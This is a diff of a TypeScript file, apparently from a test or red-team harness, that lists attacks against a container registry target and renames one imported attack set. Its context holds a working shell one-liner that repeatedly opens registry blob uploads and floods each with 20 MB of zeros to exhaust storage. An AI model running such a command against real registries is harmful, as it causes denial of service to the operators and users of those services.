@@ -1,6 +1,6 @@
 import { ATTACKS_BY_DAEMON } from "./attacks-by-daemon.ts";
 import { ATTACKS_BY_OUTPUT } from "./attacks-by-output.ts";
-import { ATTACKS_ON_TABLES } from "./attacks-on-tables.ts";
+import { ATTACKS_ON_COUNTS } from "./attacks-on-counts.ts";
 
 export interface Target {
   readonly registryHost: string;
@@ -52,7 +52,7 @@ export const ATTACKS: readonly Attack[] = [
     line: ({ registryHost, registryPort }) =>
       `for i in $(seq ${UPLOADS}); do to=$(curl -s -m 5 -X POST -D - http://${registryHost}:${registryPort}/v2/planted/blobs/uploads/ | tr -d '\\r' | sed -n 's/^Location: //p'); head -c 20M /dev/zero | curl -s -m 20 -X PATCH -H 'Content-Type: application/octet-stream' --data-binary @- "\${to:-http://${registryHost}:${registryPort}/v2/planted/blobs/uploads/none}"; done; sleep 30`,
   },
-  ...ATTACKS_ON_TABLES,
+  ...ATTACKS_ON_COUNTS,
   ...ATTACKS_BY_OUTPUT,
   ...ATTACKS_BY_DAEMON,
 ];
